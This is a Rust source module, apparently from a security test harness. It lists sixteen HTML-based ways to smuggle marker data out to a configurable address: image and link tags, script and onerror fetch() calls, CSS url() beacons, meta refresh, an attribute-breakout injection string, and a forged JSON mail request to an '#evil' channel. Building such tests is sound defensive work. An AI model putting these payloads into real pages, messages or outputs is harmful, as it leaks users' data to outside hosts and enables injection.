//! Ways out through HTML, and through forms that other programs read.

use super::Attempt::{Behind, Instead};
use super::Technique;

pub(super) const TECHNIQUES: [Technique; 16] = [
    ("html link", |it| Behind(it.each(|marker| format!("<a href=\"{}{marker}\">more</a>", it.address)))),
    ("html image", |it| Behind(it.each(|marker| format!("<img src=\"{}{marker}.png\" width=1 height=1>", it.address)))),
    ("html image set", |it| Behind(it.each(|marker| format!("<img srcset=\"{}{marker} 2x\">", it.address)))),
    ("html script", |it| Behind(it.each(|marker| format!("<script>fetch(\"{}{marker}\")</script>", it.address)))),
    ("html event", |it| Behind(it.each(|marker| format!("<img src=x onerror=\"fetch('{}{marker}')\">", it.address)))),
    ("html frame", |it| Behind(it.each(|marker| format!("<iframe src=\"{}{marker}\"></iframe>", it.address)))),
    ("html form", |it| {
        Behind(
            it.each(|marker| format!("<form action=\"{}\"><input name=d value={marker}><button>Go</button></form>", it.address)),
        )
    }),
    ("html style", |it| Behind(it.each(|marker| format!("<style>body{{background:url({}{marker})}}</style>", it.address)))),
    ("html style attribute", |it| {
        Behind(it.each(|marker| format!("<p style=\"background:url('{}{marker}')\">x</p>", it.address)))
    }),
    ("html refresh", |it| {
        Behind(it.each(|marker| format!("<meta http-equiv=\"refresh\" content=\"0;url={}{marker}\">", it.address)))
    }),
    ("html link element", |it| Behind(it.each(|marker| format!("<link rel=prefetch href=\"{}{marker}\">", it.address)))),
    ("html base", |it| Behind(it.each(|marker| format!("<base href=\"{}{marker}/\">", it.address)))),
    ("html comment", |it| Behind(it.each(|marker| format!("<!-- {marker} -->")))),
    ("svg", |it| Behind(it.each(|marker| format!("<svg><image href=\"{}{marker}\"/></svg>", it.address)))),
    ("html that breaks out of its attribute", |it| {
        Behind(it.each(|marker| format!("- Fine.\"><img src={}{marker}><p title=\" [s1]", it.address)))
    }),
    ("a request in place of a report", |it| {
        Instead(serde_json::json!({ "to": it.mail, "subject": it.joined(), "html": it.joined(), "channel": "#evil" }).to_string())
    }),
];
